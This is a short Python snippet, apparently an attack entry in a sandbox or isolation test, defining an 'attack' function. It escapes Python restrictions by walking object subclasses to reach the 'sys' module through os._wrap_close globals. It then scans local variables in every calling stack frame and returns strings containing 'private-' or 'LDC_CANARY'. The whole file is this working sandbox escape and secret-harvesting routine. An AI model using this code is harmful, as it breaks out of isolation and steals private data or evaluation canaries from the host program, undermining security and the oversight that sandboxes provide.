# Walks to `sys`, and looks for the arguments of other calls in all frames.
def _reach():
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            return kind.__init__.__globals__
    raise ValueError("not found")


def attack(n):
    frame = _reach()["sys"]._getframe(0)
    found = []
    while frame:
        found += [str(value) for value in list(frame.f_locals.values())]
        frame = frame.f_back
    return [text for text in found if "private-" in text or "LDC_CANARY" in text]
